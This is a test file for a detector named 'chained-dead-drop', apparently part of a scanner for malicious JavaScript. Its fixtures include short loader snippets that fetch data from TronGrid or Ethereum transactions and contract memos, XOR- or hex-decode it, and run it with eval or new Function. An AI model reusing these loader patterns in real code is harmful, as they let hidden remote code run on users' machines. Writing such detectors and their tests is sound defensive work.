import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './chained-dead-drop.ts';

describe('chained-dead-drop', () => {
  it('TRON to another chain to code', () => {
    const text =
      "const t = await get('https://api.trongrid.io/v1/accounts/' + w + '/transactions?limit=1'); const i = await rpc('eth_getTransactionByHash', [h]); s += String.fromCharCode(d.charCodeAt(i) ^ k.charCodeAt(i % 4)); eval(s);";
    expect(fileHits(detector, 'a.js', text)).toEqual(['strong@1']);
  });
  it('a contract’s memo to code', () => {
    expect(
      fileHits(
        detector,
        'a.js',
        'const m = await c.methods.getMemo().call(); new Function(web3.utils.hexToUtf8(m))();',
      ),
    ).toEqual(['strong@1']);
  });
  it.each([
    ["const i = await rpc('eth_getTransactionByHash', [h]); show(hexToUtf8(i.input));", 'a wallet'],
    ['await c.methods.getBalance().call(); eval(x);', 'an evaluation without decoding'],
  ])('leaves %s alone', (text) => {
    expect(fileHits(detector, 'a.js', text)).toEqual([]);
  });
});
